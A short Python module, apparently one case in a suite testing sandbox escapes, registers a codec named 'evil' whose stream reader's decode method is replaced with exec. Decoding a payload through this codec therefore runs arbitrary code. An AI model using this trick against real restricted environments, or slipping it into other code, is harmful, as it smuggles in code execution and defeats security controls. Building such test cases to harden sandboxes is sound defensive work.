"""The reader of evil's own codec decodes with a C function."""
CATEGORY = "callable"
REACH = "write"

import codecs

from . import payload


def search(name):
    def reader(stream, errors):
        reader = codecs.StreamReader(stream, {})
        reader.decode = exec
        return reader
    return (codecs.CodecInfo(None, None, reader, None) if name == "evil"
            else None)


def attack():
    codecs.register(search)


TEXT = payload.SOURCE
